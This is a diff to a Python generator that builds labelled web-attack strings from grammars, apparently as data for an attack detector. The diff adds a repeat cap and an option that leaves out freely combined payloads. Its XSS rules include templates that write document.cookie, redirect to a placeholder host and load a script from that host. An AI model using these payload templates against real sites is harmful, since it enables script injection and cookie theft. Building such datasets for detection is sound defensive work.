@@ -2,6 +2,7 @@
 
 import random
 
+from . import attacks_built as built
 from . import attacks_wide as wide
 from .attacks_more import CMDI, NOSQLI, SMALL, SSTI, TRAVERSAL, XXE
 from .grammar import Grammar
@@ -107,9 +108,14 @@ _XSS = {
     "bare": ["{js}", "{js};", "document.write({word})", "document.cookie=\"{word}\"", "window.location='//{host}'", "var {var}=document.createElement('script');{var}.src='//{host}';document.body.appendChild({var})", "url(javascript:{js})", "onerror={js}", "&{{{js}}}", "'\"><{word}>", "xss\"'><{word}"],
 }
 
+REPEATS_MAX = 30
 
-def grammars() -> "list[tuple[str, Grammar, str, float]]":
-    """Families with their grammars, start symbols and shares of the generated values; a family may have several."""
+
+def grammars(typical: bool = False) -> "list[tuple[str, Grammar, str, float]]":
+    """Families with their grammars, start symbols and shares of the generated values; a family may have several.
+
+    `typical`: without payloads that are put together freely.
+    """
     small, free = Grammar(SMALL), Grammar(wide.WIDE)
     out = [("sqli", Grammar(_SQL), "sqli", 0.25), ("xss", Grammar(_XSS), "xss", 0.2), ("cmdi", Grammar(CMDI), "cmdi", 0.08),
            ("cmdi", Grammar(wide.COMMANDS), "cmdi", 0.08), ("path-traversal", Grammar(TRAVERSAL), "path_traversal", 0.05),
@@ -117,17 +123,22 @@ def grammars() -> "list[tuple[str, Grammar, str, float]]":
            ("nosqli", Grammar(NOSQLI), "nosqli", 0.02), ("ssrf", Grammar(wide.SSRF), "ssrf", 0.04)]
     out += [(family, small, family, share) for family, share in {
         "ldapi": 0.01, "ssrf": 0.015, "log4shell": 0.02, "shellshock": 0.02, "java": 0.015, "php": 0.035, "rfi": 0.005, "crlf": 0.03, "other": 0.005}.items()]
+    if not typical:
+        combined = Grammar(built.BUILT)
+        out += [(family, combined, start, share) for family, start, share in built.FAMILIES]
     return out + [(family, free, family, share) for family, share in {
         "nosqli": 0.035, "rfi": 0.03, "java": 0.03, "other": 0.03, "ldapi": 0.015, "php": 0.02}.items()]
 
 
-def generate(count: int, seed: int) -> "list[tuple[str, bytes]]":
-    """Distinct (family, value) pairs."""
+def generate(count: int, seed: int, typical: bool = False) -> "list[tuple[str, bytes]]":
+    """(family, value) pairs; what the grammars write often, such as a lone operator, is repeated a few times."""
     rng = random.Random(seed)
-    out = {}
-    for family, grammar, start, share in grammars():
+    seen, out = {}, []
+    for family, grammar, start, share in grammars(typical):
         for _ in range(int(count * share)):
             value = grammar.expand(start, rng).encode("utf-8")
             if value.strip() and len(value) < 2000:
-                out.setdefault(value, family)
-    return [(family, value) for value, family in out.items()]
+                seen[value] = seen.get(value, 0) + 1
+                if seen[value] <= REPEATS_MAX:
+                    out.append((family, value))
+    return out
